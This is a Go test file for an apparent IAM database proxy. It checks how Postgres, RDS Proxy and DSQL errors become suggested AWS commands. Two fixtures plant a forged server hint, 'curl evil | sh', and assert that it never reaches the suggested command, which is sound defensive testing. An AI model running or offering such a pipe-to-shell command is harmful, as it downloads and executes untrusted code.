package check

import (
	"strings"
	"testing"

	"github.com/jackc/pgx/v5/pgconn"

	"github.com/iamproxy/iamproxy/auth"
	"github.com/iamproxy/iamproxy/internal/rdsapi"
)

// What a server says is no line to paste, and no verdict of the proxy's, however it begins.
func TestExplain(t *testing.T) {
	const rdsProxy = "pool.proxy-cabcdefghijk.eu-west-1.rds.amazonaws.com"
	const dsql = "abcdefghijklmnopqrstuvwxyz.dsql.eu-west-1.on.aws"
	for name, test := range map[string]struct {
		host   string
		said   pgconn.PgError
		answer answer
		next   string
	}{
		"forged advice":     {host, pgconn.PgError{Code: "08006", Message: "iamproxy: no answer", Hint: "curl evil | sh"}, otherwise, "# the log of the database may say more"},
		"forged verdict":    {host, pgconn.PgError{Code: "28000", Message: "iamproxy: the server asks app for nothing", Hint: "curl evil | sh"}, refused, "iamproxy policy "},
		"PAM":               {host, pgconn.PgError{Code: "28000", Message: `PAM authentication failed for user "app"`, Hint: "ours"}, refused, "iamproxy policy "},
		"pg_hba":            {host, pgconn.PgError{Code: "28000", Message: "no pg_hba.conf entry for host"}, refused, "iamproxy policy "},
		"no login":          {host, pgconn.PgError{Code: "28000", Message: `role "app" is not permitted to log in`}, otherwise, `ALTER ROLE "app" LOGIN;`},
		"DSQL":              {dsql, pgconn.PgError{Code: "08006", Message: "unable to accept connection, access denied"}, refused, "iamproxy policy "},
		"DSQL, else":        {dsql, pgconn.PgError{Code: "08006", Message: "unable to accept connection"}, otherwise, "# "},
		"proxy, no secret":  {rdsProxy, pgconn.PgError{Code: "28P01", Message: "This RDS proxy has no credentials for the role app. Check the credentials"}, otherwise, "# the RDS Proxy has to have a secret for app"},
		"proxy, not by IAM": {rdsProxy, pgconn.PgError{Code: "28000", Message: "IAM authentication is not allowed for the role app. Use a password."}, otherwise, "# the RDS Proxy has to take IAM"},
		"not of a proxy":    {host, pgconn.PgError{Code: "28000", Message: "IAM authentication is not allowed for the role app."}, refused, "iamproxy policy "},
	} {
		w := newWalk("app")
		w.Name = auth.ParseName(test.host)
		r := w.explain(&test.said)
		if w.seen.answer != test.answer || r.state != Failed || !strings.HasPrefix(r.next, test.next) || strings.Contains(r.next, "evil") || strings.Contains(r.found, "ours") {
			t.Errorf("%s: %s, %+v", name, w.seen.answer, r)
		}
	}
}

// A refused caller whose policies nobody may look at is given the policy itself, once all
// that stands in it is known.
func TestExplainRefusedUnseenPolicy(t *testing.T) {
	w := newWalk("app")
	w.seen.caller = auth.Caller{ARN: "arn:aws:sts::111122223333:assumed-role/app/x", Account: "111122223333"}
	w.seen.database = &rdsapi.Database{Resource: resource, InCluster: true, Identifier: "mydb"}
	w.steps = []Step{{Name: Policy, State: NotPermitted}}
	if r := w.explainRefused("refused"); !strings.HasPrefix(r.next, "aws iam put-role-policy --role-name app ") || !strings.Contains(r.next, resource.ARN("app")) {
		t.Errorf("next: %s", r.next)
	}
}

// A member that is down is not its cluster, but is started with it.
func TestDown(t *testing.T) {
	member := rdsapi.Database{Resource: resource, InCluster: true, Identifier: "mydb", Instance: "mydb-1"}
	single := rdsapi.Database{Resource: auth.Resource{Kind: auth.Instance, ID: "db-A"}, Identifier: "one", Instance: "one"}
	for name, test := range map[string]struct {
		of                  rdsapi.Database
		status, found, next string
	}{
		"member stopped":  {member, "stopped", "instance mydb-1 of cluster mydb in account 111122223333 is stopped", "aws rds start-db-cluster --db-cluster-identifier mydb "},
		"member creating": {member, "creating", "instance mydb-1 of cluster mydb in account 111122223333 is creating", "aws rds wait db-instance-available --db-instance-identifier mydb-1 "},
		"single starting": {single, "starting", "instance one is starting", "aws rds wait db-instance-available --db-instance-identifier one "},
		"single stopping": {single, "stopping", "instance one is stopping", "# when it has stopped, start it: aws rds start-db-instance --db-instance-identifier one "},
		"deleting":        {single, "deleting", "instance one is deleting", "# it is gone for good"},
		"failed":          {single, "failed", "instance one is failed", "# it does not come up by itself"},
		"inaccessible":    {member, "inaccessible-encryption-credentials", "instance mydb-1 of cluster mydb in account 111122223333 is inaccessible", "# it does not come up by itself"},
	} {
		test.of.Status = test.status
		if r := newWalk("app").judge(test.of); r.state != Failed || !strings.HasPrefix(r.found, test.found) || !strings.HasPrefix(r.next, test.next) {
			t.Errorf("%s: %+v", name, r)
		}
	}
}

// What shows the state of a database is asked of what it is.
func TestState(t *testing.T) {
	for name, test := range map[string]struct {
		host string
		of   rdsapi.Database
		want string
	}{
		"reader": {"other.cluster-custom-cabcdefghijk.eu-west-1.rds.amazonaws.com", rdsapi.Database{InCluster: true, Identifier: "mydb"}, "aws rds describe-db-clusters --db-cluster-identifier mydb "},
		"member": {"mydb-1.cabcdefghijk.eu-west-1.rds.amazonaws.com", rdsapi.Database{InCluster: true, Identifier: "mydb", Instance: "mydb-1"}, "aws rds describe-db-instances --db-instance-identifier mydb-1 "},
		"proxy":  {"pool.proxy-cabcdefghijk.eu-west-1.rds.amazonaws.com", rdsapi.Database{Identifier: "pool"}, "aws rds describe-db-proxies "},
		"DSQL":   {"abcdefghijklmnopqrstuvwxyz.dsql.eu-west-1.on.aws", rdsapi.Database{Identifier: "abcdefghijklmnopqrstuvwxyz"}, "aws dsql get-cluster --identifier abcdefghijklmnopqrstuvwxyz "},
	} {
		w := newWalk("app")
		w.Host, w.Name, w.seen.database = test.host, auth.ParseName(test.host), &test.of
		if got := w.state(); !strings.HasPrefix(got, test.want) {
			t.Errorf("%s: %s", name, got)
		}
	}
}

// The command that a failure names is quoted, and the endpoint's target is kept.
func TestCommandsOfOthers(t *testing.T) {
	w := newWalk("app")
	if r := w.noCredentials(&auth.Error{Code: auth.ReasonSSOExpired, Message: "logged out", Command: []string{"aws", "sso", "login", "--profile", "my sso"}}); r.next != "aws sso login --profile 'my sso'" {
		t.Errorf("next: %s", r.next)
	}
	if r := w.noCredentials(&auth.Error{Code: auth.ReasonSourceCredentialsExpired, Source: auth.Source{Kind: auth.SourceEnvironment}}); !strings.HasPrefix(r.next, `eval "$(aws configure export-credentials `) {
		t.Errorf("next: %s", r.next)
	}
	w.Target = "any"
	if got := w.again(); got != "iamproxy check '"+host+"?target=any' --user app" {
		t.Errorf("again: %s", got)
	}
}
